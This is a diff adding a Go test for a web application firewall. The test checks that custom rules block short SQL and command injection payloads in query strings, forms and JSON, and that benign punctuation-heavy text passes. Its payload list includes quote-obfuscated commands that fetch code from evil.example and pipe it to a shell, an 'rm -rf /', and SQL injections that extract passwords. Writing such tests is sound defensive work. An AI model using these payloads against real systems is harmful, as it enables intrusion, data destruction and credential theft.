@@ -1,0 +1,61 @@
+package waf
+
+import (
+	"net/url"
+	"testing"
+)
+
+// TestShortPayloads: the shortest SQL and command injections, which the
+// CRS at paranoia 1 lets through (a fresh-eyes attack's BROKE 7), are
+// refused by rules 210150 and 210151, in the query, a form and JSON; text
+// with quotes, dashes, hashes, semicolons and pipes passes.
+func TestShortPayloads(t *testing.T) {
+	q := url.QueryEscape
+	form := "application/x-www-form-urlencoded"
+	js := "application/json"
+	var misses []probe
+	for _, v := range []string{"admin'#", "admin' -- -", `admin"#`, "| id", "; id", ";id", "&& id", "`id`", "x|id", "a\nid",
+		// quote-split commands, and commands with their arguments (BROKE 14)
+		"; c'u'rl evil.example/x|s'h'", "127.0.0.1|w''get evil.example/s -O-|s''h", "; r''m -rf /", "127.0.0.1; e''cho cHduZWQ=|b''ase64 -d|s''h",
+		"; p''ython3 -c 'im''port os'", "x; k''ill -9 1", "; w'h'o'am'i", ";i''d", "127.0.0.1; id", "127.0.0.1|id", "; ps aux", "; ip a",
+		// a backslash before the quote (BROKE 15)
+		`\' OR 1=1 -- `, `\' OR '1'='1`, `\' OR name='alice' AND password like 'pw%'--`, `\' OR (SELECT password FROM users WHERE name='alice') > 'pv'--`,
+		`\' OR exists(select 1 from users where password like 'p%')--`, `\' OR 1=1 LIMIT 1 OFFSET 1--`} {
+		jv := `"` + jsonEscape(v) + `"`
+		misses = append(misses,
+			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
+			probe{name: v + " in a form", method: "POST", path: "/login", contentType: form, body: "user=" + q(v) + "&pass=x"},
+			probe{name: v + " in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": ` + jv + `, "pass": "x"}`},
+		)
+	}
+	catches := []probe{
+		{name: "admin'-- (the CRS's)", method: "GET", path: "/login?user=" + q("admin'--")},
+		{name: "; sleep 5 (the CRS's)", method: "GET", path: "/ping?host=" + q("127.0.0.1; sleep 5")},
+	}
+	var benign []probe
+	for _, v := range []string{"the 'best' -- really", "Joe's #1 fan", "McDonald's #5", "bring it; cat lovers", "Tom & Jerry", "rock | pop",
+		"id", "A; B; C", "ls", "Q&A: ps", "x && y", "it's -- fine", "O'Brien", `5' 10" tall`, "C#; F#; id software", "see: ls(1)", "echo chamber; echoes",
+		"ok; i'd go", "tea; cat a day", "python; it's fun", "me & ps: hi", "Don't; it's mine", `path C:\Users\O\'Brien`,
+		`He said \"hello\" and left`, `It\'s fine`, "a | b | c", "who; what; where"} {
+		benign = append(benign,
+			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
+			probe{name: v + " in JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + jsonEscape(v) + `"}`},
+		)
+	}
+	runBeyondTheCRS(t, catches, misses, benign)
+}
+
+func jsonEscape(s string) string {
+	var b []byte
+	for i := 0; i < len(s); i++ {
+		switch c := s[i]; c {
+		case '"', '\\':
+			b = append(b, '\\', c)
+		case '\n':
+			b = append(b, '\\', 'n')
+		default:
+			b = append(b, c)
+		}
+	}
+	return string(b)
+}
